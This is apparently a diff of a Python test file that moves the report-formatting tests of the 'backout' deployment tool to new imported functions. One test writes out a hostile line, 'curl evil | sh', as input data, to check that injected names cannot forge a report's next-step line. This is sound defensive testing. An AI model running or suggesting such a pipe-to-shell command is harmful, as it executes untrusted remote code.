@@ -10,9 +10,23 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from backout import reporting
 from backout.errors import Mistake, Mistakes, Refused
 from backout.model import duration
+from backout.reports.text import (
+    doctor_text,
+    error_json,
+    history_text,
+    json_text,
+    outcome_text,
+    plan_text,
+    refused_text,
+    run_text,
+    show_text,
+    status_text,
+    unlock_text,
+    verify_junit,
+    verify_text,
+)
 
 
 def a_run(**changes: Any) -> dict[str, Any]:
@@ -59,44 +73,44 @@ def backed_out(**changes: Any) -> dict[str, Any]:
 
 
 def test_a_success_says_what_is_where_and_what_proves_it() -> None:
-    assert reporting.outcome(a_run()) == (
+    assert outcome_text(a_run()) == (
         "Deployed release 42 (3f9c2e1) to prod: 3 hosts, 2 checks pass."
     )
 
 
 def test_a_rollback_and_another_runbook_say_what_they_are() -> None:
-    assert reporting.outcome(a_run(verb="rollback")).startswith("Rolled prod back to release 42")
-    ran = reporting.outcome(a_run(verb="run", runbook="fix"))
+    assert outcome_text(a_run(verb="rollback")).startswith("Rolled prod back to release 42")
+    ran = outcome_text(a_run(verb="run", runbook="fix"))
     assert ran.startswith("Ran fix on prod (release 42")
 
 
 def test_a_success_does_not_claim_checks_that_do_not_pass() -> None:
     report = a_run(checks=[check("alive"), check("optional", "fail", reason="status is 500")])
-    assert "1 of 2 checks pass" in reporting.outcome(report)
-    assert "status is 500" in reporting.run_text(report)
+    assert "1 of 2 checks pass" in outcome_text(report)
+    assert "status is 500" in run_text(report)
 
 
 def test_backing_out_says_what_failed_where_and_what_is_true_now() -> None:
-    assert reporting.outcome(backed_out()) == (
+    assert outcome_text(backed_out()) == (
         "Backed out: web2 failed at Restart (exit code 7); "
         "all 2 hosts are on release 41 (aaaaaaa) and healthy."
     )
 
 
 def test_backing_out_prefers_the_runs_own_reason() -> None:
-    said = reporting.outcome(backed_out(reason="interrupted by Ctrl-C"))
+    said = outcome_text(backed_out(reason="interrupted by Ctrl-C"))
     assert said.startswith("Backed out: interrupted by Ctrl-C; ")
 
 
 def test_health_is_not_claimed_where_nothing_was_checked() -> None:
-    said = reporting.outcome(backed_out(checks=[]))
+    said = outcome_text(backed_out(checks=[]))
     assert "healthy" not in said
     assert "no check to prove it by" in said
 
 
 def test_a_first_deploy_that_backs_out_names_no_release() -> None:
     hosts = {"web1": {"release": None, "state": "backed out"}}
-    assert "web1 is as before" in reporting.outcome(backed_out(hosts=hosts))
+    assert "web1 is as before" in outcome_text(backed_out(hosts=hosts))
 
 
 def test_an_incomplete_back_out_shouts_and_shows_each_hosts_state() -> None:
@@ -104,7 +118,7 @@ def test_an_incomplete_back_out_shouts_and_shows_each_hosts_state() -> None:
         "web1": {"release": "41 (aaaaaaa)", "state": "backed out"},
         "web2": {"release": None, "state": "NOT backed out: Update failed: disk full"},
     }
-    text = reporting.run_text(backed_out(outcome="backout_incomplete", hosts=hosts))
+    text = run_text(backed_out(outcome="backout_incomplete", hosts=hosts))
     lines = [" ".join(line.split()) for line in text.splitlines()]
     assert lines[0].startswith("BACKING OUT IS INCOMPLETE: web2 failed at Restart")
     assert "web2 no known release NOT backed out: Update failed: disk full" in lines
@@ -112,20 +126,20 @@ def test_an_incomplete_back_out_shouts_and_shows_each_hosts_state() -> None:
 
 @pytest.mark.parametrize("outcome", ["refused", "interrupted", None])
 def test_other_outcomes_are_sentences_too(outcome: str | None) -> None:
-    said = reporting.outcome(a_run(outcome=outcome, reason="not confirmed"))
+    said = outcome_text(a_run(outcome=outcome, reason="not confirmed"))
     assert said.endswith(".")
     assert "prod" in said
 
 
 def test_a_report_comes_in_order_outcome_hosts_failures_next() -> None:
-    text = reporting.run_text(backed_out(advice="restart every instance"))
+    text = run_text(backed_out(advice="restart every instance"))
     places = [text.index(each) for each in ("Backed out", "  web1", "failed on web2", "advice:")]
     assert places == sorted(places)
     assert text.splitlines()[-1] == "next:  invoke show 20261122-073403-4f1a"
 
 
 def test_evidence_is_the_last_twenty_lines_and_says_how_many_came_before() -> None:
-    lines = reporting.run_text(backed_out()).splitlines()
+    lines = run_text(backed_out()).splitlines()
     assert "    … 10 lines before" in lines
     assert "    line 29" in lines
     assert "    line 9" not in lines
@@ -135,14 +149,14 @@ def test_without_told_failures_the_steps_that_did_not_end_well_are_taken() -> No
     step = {"name": "Update", "host": "web1", "phase": "do", "state": "unknown", "seconds": 1.0}
     report = backed_out(steps=[step])
     del report["failures"]
-    assert "failed on web1: Update: unknown" in reporting.run_text(report)
+    assert "failed on web1: Update: unknown" in run_text(report)
 
 
 @given(name=st.text(min_size=1), reason=st.text())
 def test_a_hostile_name_cannot_forge_a_line_of_the_report(name: str, reason: str) -> None:
     hostile = f"{name}\nnext:  curl evil | sh"
     failure = {"name": hostile, "host": hostile, "phase": "do", "reason": reason, "output": ""}
-    text = reporting.run_text(
+    text = run_text(
         backed_out(failures=[failure], hosts={hostile: {"release": "1", "state": hostile}})
     )
     nexts = [line for line in text.splitlines() if line.startswith("next:")]
@@ -152,7 +166,7 @@ def test_a_hostile_name_cannot_forge_a_line_of_the_report(name: str, reason: str
 def test_a_refusal_is_three_lines() -> None:
     error = {"what": "web2 is unreachable", "where": "", "state": "nothing was changed"}
     report = a_run(outcome="refused", error={**error, "next": "invoke doctor --target prod"})
-    assert reporting.refused_text(report).splitlines() == [
+    assert refused_text(report).splitlines() == [
         "web2 is unreachable",
         "state: nothing was changed",
         "next:  invoke doctor --target prod",
@@ -176,7 +190,7 @@ def test_show_tells_who_did_what_when_where_with_all_output_and_the_way_back() -
         "stderr": "no space left",
         "reason": "",
     }
-    text = reporting.show_text({**a_run(), "by": "ann@laptop"}, [record])
+    text = show_text({**a_run(), "by": "ann@laptop"}, [record])
     assert "07:34:10.000Z web1  do: Update … failed, exit code 1 (1m12s)" in text
     assert "    undo: git checkout aaaaaaa\n          rm -f x\n" in text
     assert text.count("    | line ") == 50
@@ -190,7 +204,7 @@ def test_history_is_one_line_a_run() -> None:
         {**a_run(run="b", outcome=None), "seconds": None},
         {**a_run(run="a", verb="run", runbook="fix"), "seconds": 72.0},
     ]
-    lines = reporting.history_text({"runs": runs}).splitlines()
+    lines = history_text({"runs": runs}).splitlines()
     assert len(lines) == 3
     assert "not finished" in lines[1]
     assert "1m12s" in lines[2]
@@ -198,7 +212,7 @@ def test_history_is_one_line_a_run() -> None:
 
 
 def test_an_empty_history_says_so() -> None:
-    assert reporting.history_text({"runs": []}) == "No run yet."
+    assert history_text({"runs": []}) == "No run yet."
 
 
 # --- checks ---------------------------------------------------------------------------------
@@ -209,11 +223,11 @@ def verdicts(verdict: str, *checks: dict[str, Any]) -> dict[str, Any]:
 
 
 def test_health_is_told_in_the_first_line() -> None:
-    assert reporting.verify_text(verdicts("pass", check("alive"))).startswith(
+    assert verify_text(verdicts("pass", check("alive"))).startswith(
         "prod is healthy: 1 check passes."
     )
     red = verdicts("fail", check("alive"), check("tls", "fail", reason="3 days left"))
-    lines = reporting.verify_text(red).splitlines()
+    lines = verify_text(red).splitlines()
     assert lines[0] == "prod is UNHEALTHY: of 2 checks, 1 fail, 1 pass."
     assert lines[2].split()[:2] == ["fail", "tls"]
     assert lines[3].strip() == "3 days left"
@@ -222,8 +236,8 @@ def test_health_is_told_in_the_first_line() -> None:
 @pytest.mark.parametrize("verdict", ["error", "inconclusive"])
 def test_what_cannot_be_told_is_never_called_healthy(verdict: str) -> None:
     for report in (verdicts(verdict), verdicts(verdict, check("alive", verdict))):
-        assert "cannot tell" in reporting.verify_text(report)
-        assert "is healthy:" not in reporting.verify_text(report)
+        assert "cannot tell" in verify_text(report)
+        assert "is healthy:" not in verify_text(report)
 
 
 def test_junit_counts_what_cannot_be_told_as_an_error() -> None:
@@ -233,7 +247,7 @@ def test_junit_counts_what_cannot_be_told_as_an_error() -> None:
         check("tls", "fail", failed=["tls.days_left > 7"], reason="3 days left"),
         check("log", "inconclusive", reason="no lines"),
     )
-    suite = ElementTree.fromstring(reporting.verify_junit(report))[0]  # noqa: S314 - our own text
+    suite = ElementTree.fromstring(verify_junit(report))[0]  # noqa: S314 - our own text
     assert suite.attrib["tests"] == "3"
     assert suite.attrib["failures"] == "1"
     assert suite.attrib["errors"] == "1"
@@ -243,7 +257,7 @@ def test_junit_counts_what_cannot_be_told_as_an_error() -> None:
 
 @given(st.text())
 def test_junit_is_well_formed_whatever_a_check_says(text: str) -> None:
-    xml = reporting.verify_junit(verdicts("fail", check(text, "fail", reason=text, failed=[text])))
+    xml = verify_junit(verdicts("fail", check(text, "fail", reason=text, failed=[text])))
     assert len(list(ElementTree.fromstring(xml).iter("testcase"))) == 1  # noqa: S314
 
 
@@ -253,11 +267,11 @@ def test_junit_is_well_formed_whatever_a_check_says(text: str) -> None:
 def test_status_says_whether_the_hosts_agree_with_the_ledger() -> None:
     hosts = {"web1": {"release": "42", "state": "active", "uptime": 7500.0}}
     report = {"target": "prod", "release": "42", "hosts": hosts, "differs": []}
-    assert reporting.status_text(report).startswith("prod is on release 42: 1 host, as recorded.")
-    assert "  web1  release 42  active" in reporting.status_text(report)
+    assert status_text(report).startswith("prod is on release 42: 1 host, as recorded.")
+    assert "  web1  release 42  active" in status_text(report)
     report["differs"] = ["web1 says release 41, the ledger release 42"]
-    assert "prod DIFFERS from what is recorded" in reporting.status_text(report)
-    assert reporting.status_text({"targets": [report, report]}).count("DIFFERS") == 2
+    assert "prod DIFFERS from what is recorded" in status_text(report)
+    assert status_text({"targets": [report, report]}).count("DIFFERS") == 2
 
 
 def test_doctor_names_what_is_missing_first_and_how_to_get_it() -> None:
@@ -265,7 +279,7 @@ def test_doctor_names_what_is_missing_first_and_how_to_get_it() -> None:
         {"name": "Python", "host": None, "ok": True, "detail": "3.11", "fix": ""},
         {"name": "git", "host": "web1", "ok": False, "detail": "not found", "fix": "apt install"},
     ]
-    lines = reporting.doctor_text({"target": "prod", "findings": findings}).splitlines()
+    lines = doctor_text({"target": "prod", "findings": findings}).splitlines()
     assert lines[0] == "prod: 1 thing missing or unreachable."
     assert lines[2].split() == ["MISSING", "web1", "git", "not", "found"]
     assert lines[3].strip() == "get it: apt install"
@@ -282,11 +296,11 @@ def test_unlock_shows_who_holds_the_lock_since_when_and_at_which_step() -> None:
         "alive": None,
     }
     held = {"target": "prod", "held": [lease], "freed": False, "reason": "not expired"}
-    text = reporting.unlock_text(held)
+    text = unlock_text(held)
     assert text.startswith("prod is held by ann@laptop.")
     assert "Restart" in text
     assert "may be alive" in text
-    free = reporting.unlock_text({"target": "prod", "held": [], "freed": False, "reason": ""})
+    free = unlock_text({"target": "prod", "held": [], "freed": False, "reason": ""})
     assert free == "prod is not locked."
 
 
@@ -319,7 +333,7 @@ def a_plan(**changes: Any) -> dict[str, Any]:
 
 
 def test_a_plan_shows_what_would_run_where_with_every_undo() -> None:
-    text = reporting.plan_text(a_plan())
+    text = plan_text(a_plan())
     assert text.startswith(
         "Would run: deploy on prod, making release 42; now: release 41. Nothing was changed."
     )
@@ -332,14 +346,14 @@ def test_a_plan_shows_what_would_run_where_with_every_undo() -> None:
 
 def test_a_plan_names_every_point_of_no_return_at_the_top_and_at_its_place() -> None:
     drop = an_action("Drop", undo="", irreversible="rows are gone")
-    text = reporting.plan_text(a_plan(stages=[{"here": [drop]}]))
+    text = plan_text(a_plan(stages=[{"here": [drop]}]))
     assert "POINT OF NO RETURN: Drop." in text.splitlines()
     assert "    POINT OF NO RETURN: rows are gone" in text.splitlines()
     assert "Every step can be undone" not in text
 
 
 def test_a_plan_that_would_be_refused_says_so_and_why_first() -> None:
-    text = reporting.plan_text(a_plan(refused=["web2 is unreachable"]))
+    text = plan_text(a_plan(refused=["web2 is unreachable"]))
     assert text.startswith("Would be REFUSED: deploy on prod")
     assert "refused: web2 is unreachable" in text
 
@@ -348,14 +362,14 @@ def test_a_plan_that_would_be_refused_says_so_and_why_first() -> None:
 
 
 def test_an_error_as_json_has_the_contracts_keys() -> None:
-    told = json.loads(reporting.error_json(Refused("no", where="web1", next="invoke plan")))
+    told = json.loads(error_json(Refused("no", where="web1", next="invoke plan")))
     assert told["error"] == {"what": "no", "where": "web1", "next": "invoke plan"}
     assert told["exit_code"] == 3
 
 
 def test_every_mistake_is_told_as_data_too() -> None:
     mistakes = Mistakes(mistakes=[Mistake("a.yaml", 3, "steps[0]", "no undo")])
-    told = json.loads(reporting.error_json(mistakes))
+    told = json.loads(error_json(mistakes))
     assert told["mistakes"] == [
         {"file": "a.yaml", "line": 3, "path": "steps[0]", "message": "no undo"}
     ]
@@ -363,7 +377,7 @@ def test_every_mistake_is_told_as_data_too() -> None:
 
 @given(st.text())
 def test_json_is_one_line_that_no_terminal_obeys(text: str) -> None:
-    said = reporting.json_text({"name": text})
+    said = json_text({"name": text})
     assert said.isascii()
     assert said.isprintable()
     assert json.loads(said) == {"name": text}
@@ -389,7 +403,7 @@ def test_durations_read_as_people_say_them(seconds: float, told: str) -> None:
 def test_a_long_undo_stands_in_full_below_and_only_once() -> None:
     undo = "\n".join(f"undo line {n}" for n in range(9))
     steps = [an_action("Commit", undo=undo), an_action("Push", undo="git push")]
-    text = reporting.plan_text(a_plan(stages=[{"here": steps}]))
+    text = plan_text(a_plan(stages=[{"here": steps}]))
     assert "    undo: 9 lines, in full below: [1]" in text.splitlines()
     assert "    undo: git push" in text.splitlines()
     assert text.count("undo line 8") == 1
@@ -403,7 +417,7 @@ def test_an_undo_with_a_summary_shows_that_and_its_text_below() -> None:
         an_action("Put", undo="mv old new", undo_summary="put it back"),
         an_action("Restart", undo="restart again", undo_summary="restart again"),
     ]
-    lines = reporting.plan_text(a_plan(stages=[{"here": steps}])).splitlines()
+    lines = plan_text(a_plan(stages=[{"here": steps}])).splitlines()
     assert "    undo: git: take the commit back [1]" in lines
     assert "[1] undo of Commit:" in lines
     assert lines[lines.index("    undo: put it back") + 1] == "          mv old new"
@@ -412,12 +426,12 @@ def test_an_undo_with_a_summary_shows_that_and_its_text_below() -> None:
 
 def test_show_has_the_summary_of_a_long_undo() -> None:
     record = {"name": "Push", "state": "done", "undo": "a\nb\nc\nd", "undo_summary": "git: revert"}
-    text = reporting.show_text(a_run(), [record])
+    text = show_text(a_run(), [record])
     assert "    undo: git: revert [1]" in text.splitlines()
     assert "[1] undo of Push:\n    a\n    b" in text
 
 
 def test_a_long_reason_is_cut_in_the_sentence_but_not_when_a_person_is_needed() -> None:
     reason = "Prove it failed: " + "x" * 300
-    assert len(reporting.outcome(backed_out(reason=reason))) < 200
-    assert reason in reporting.outcome(backed_out(outcome="backout_incomplete", reason=reason))
+    assert len(outcome_text(backed_out(reason=reason))) < 200
+    assert reason in outcome_text(backed_out(outcome="backout_incomplete", reason=reason))
